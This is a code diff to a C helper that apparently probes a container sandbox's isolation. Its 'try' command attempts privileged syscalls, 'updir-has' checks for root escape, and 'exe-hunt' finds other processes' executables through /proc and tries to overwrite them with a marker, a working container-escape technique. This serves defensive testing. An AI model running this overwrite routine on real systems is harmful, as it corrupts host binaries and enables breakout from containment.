@@ -47,7 +47,10 @@
 #include <stdlib.h>
 #include <string.h>
 #include <stdint.h>
+#include <net/if.h>
 #include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
 #include <sys/personality.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
@@ -466,6 +469,181 @@ static int do_sched(void)
 	return 0;
 }
 
+static void print_errno(int e)
+{
+	const char *name = strerrorname_np(e);
+	printf("errno %d %s\n", e, name ? name : "?");
+}
+
+static int try_link(const char *iface, const char *updown)
+{
+	struct ifreq ifr;
+	int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (s < 0)
+		return -1;
+	memset(&ifr, 0, sizeof(ifr));
+	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", iface);
+	int rc = ioctl(s, SIOCGIFFLAGS, &ifr);
+	if (rc == 0) {
+		if (strcmp(updown, "up") == 0)
+			ifr.ifr_flags |= IFF_UP;
+		else
+			ifr.ifr_flags &= ~IFF_UP;
+		rc = ioctl(s, SIOCSIFFLAGS, &ifr);
+	}
+	int e = errno;
+	close(s);
+	errno = e;
+	return rc;
+}
+
+static int do_try(int nargs, char **args)
+{
+	if (nargs < 1)
+		return usage();
+	const char *op = args[0];
+	int rc;
+	errno = 0;
+	if (strcmp(op, "mkdir") == 0 && nargs == 2)
+		rc = mkdir(args[1], 0755);
+	else if (strcmp(op, "socket") == 0 && nargs == 2) {
+		int family = strcmp(args[1], "inet") == 0    ? AF_INET
+		             : strcmp(args[1], "inet6") == 0 ? AF_INET6
+		             : strcmp(args[1], "unix") == 0  ? AF_UNIX
+		                                             : -1;
+		if (family < 0)
+			return usage();
+		rc = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+		if (rc >= 0)
+			close(rc);
+	} else if (strcmp(op, "getppid") == 0 && nargs == 1)
+		rc = getppid() >= 0 ? 0 : -1;
+	else if (strcmp(op, "mount-tmpfs") == 0 && nargs == 2)
+		rc = mount("tmpfs", args[1], "tmpfs", 0, "size=1m");
+	else if (strcmp(op, "link") == 0 && nargs == 3)
+		rc = try_link(args[1], args[2]);
+	else if (strcmp(op, "open-write") == 0 && nargs == 2) {
+		rc = open(args[1], O_WRONLY | O_CLOEXEC);
+		if (rc >= 0)
+			close(rc);
+	} else if (strcmp(op, "write-existing") == 0 && nargs == 3) {
+		int fd = open(args[1], O_WRONLY | O_CLOEXEC);
+		rc = fd;
+		if (fd >= 0) {
+			size_t len = strlen(args[2]);
+			rc = write(fd, args[2], len) == (ssize_t)len ? 0 : -1;
+			int e = errno;
+			if (close(fd) < 0 && rc == 0)
+				rc = -1;
+			else
+				errno = e;
+		}
+	} else if (strcmp(op, "sethostname") == 0 && nargs == 2)
+		rc = sethostname(args[1], strlen(args[1]));
+	else if (strcmp(op, "chown") == 0 && nargs == 4)
+		rc = chown(args[1], (uid_t)atoi(args[2]), (gid_t)atoi(args[3]));
+	else if (strcmp(op, "mknod") == 0 && nargs == 4)
+		rc = mknod(args[1], S_IFCHR | 0666,
+		           makedev((unsigned)atoi(args[2]), (unsigned)atoi(args[3])));
+	else
+		return usage();
+	if (rc < 0)
+		print_errno(errno);
+	else
+		printf("ok\n");
+	return 0;
+}
+
+static int do_updir_has(const char *name)
+{
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			return fail("chdir ..");
+	printf("%s\n", access(name, F_OK) == 0 ? "found" : "missing");
+	return 0;
+}
+
+struct held_exe {
+	int fd, pid, written, last_errno;
+	unsigned long long dev, ino;
+	char target[PATH_MAX];
+};
+
+static int do_exe_hunt(const char *seconds)
+{
+	static struct held_exe held[64];
+	int nheld = 0;
+	struct stat self;
+	if (stat("/proc/self/exe", &self) < 0)
+		return fail("stat /proc/self/exe");
+	time_t end = time(NULL) + atoi(seconds);
+	while (time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		if (!d)
+			return fail("opendir /proc");
+		struct dirent *e;
+		while ((e = readdir(d)) && nheld < 64) {
+			if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == getpid())
+				continue;
+			char path[300];
+			struct stat st, here;
+			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
+			int fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			int known = fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino);
+			for (int i = 0; i < nheld && !known; i++)
+				known = held[i].dev == st.st_dev && held[i].ino == st.st_ino;
+			char target[PATH_MAX] = "";
+			ssize_t len = readlink(path, target, sizeof(target) - 1);
+			target[len > 0 ? len : 0] = '\0';
+			/* a file of this root (a binary of the container) is not the prey */
+			if (!known && len > 0 && stat(target, &here) == 0 && here.st_dev == st.st_dev &&
+			    here.st_ino == st.st_ino)
+				known = 1;
+			if (known) {
+				close(fd);
+				continue;
+			}
+			struct held_exe *h = &held[nheld++];
+			h->fd = fd;
+			h->pid = atoi(e->d_name);
+			h->dev = (unsigned long long)st.st_dev;
+			h->ino = (unsigned long long)st.st_ino;
+			snprintf(h->target, sizeof(h->target), "%s", target);
+			printf("exe %d %llu %llu %s\n", h->pid, h->dev, h->ino, h->target);
+			fflush(stdout);
+		}
+		closedir(d);
+		for (int i = 0; i < nheld; i++) {
+			if (held[i].written)
+				continue;
+			char path[64];
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
+			int fd = open(path, O_WRONLY | O_CLOEXEC);
+			if (fd < 0) {
+				held[i].last_errno = errno;
+				continue;
+			}
+			held[i].written = 1;
+			if (write(fd, "BERTH-PWNED", 11) != 11)
+				held[i].last_errno = errno;
+			close(fd);
+			printf("wrote %d %llu %llu %s\n", held[i].pid, held[i].dev, held[i].ino, held[i].target);
+			fflush(stdout);
+		}
+		struct timespec ts = {0, 2 * 1000 * 1000};
+		nanosleep(&ts, NULL);
+	}
+	for (int i = 0; i < nheld; i++) {
+		const char *name = strerrorname_np(held[i].last_errno);
+		printf("held %d %llu %llu %s\n", held[i].pid, held[i].dev, held[i].ino,
+		       held[i].written ? "written" : name ? name : "?");
+	}
+	printf("done\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc < 2) {
@@ -538,6 +716,12 @@ int main(int argc, char **argv)
 		rc = do_uptime();
 	else if (strcmp(cmd, "clock") == 0 && nargs == 1)
 		rc = do_clock(args[0]);
+	else if (strcmp(cmd, "try") == 0)
+		rc = do_try(nargs, args);
+	else if (strcmp(cmd, "updir-has") == 0 && nargs == 1)
+		rc = do_updir_has(args[0]);
+	else if (strcmp(cmd, "exe-hunt") == 0 && nargs == 1)
+		rc = do_exe_hunt(args[0]);
 	else if (strcmp(cmd, "personality") == 0)
 		rc = do_personality();
 	else if (strcmp(cmd, "ioprio") == 0)
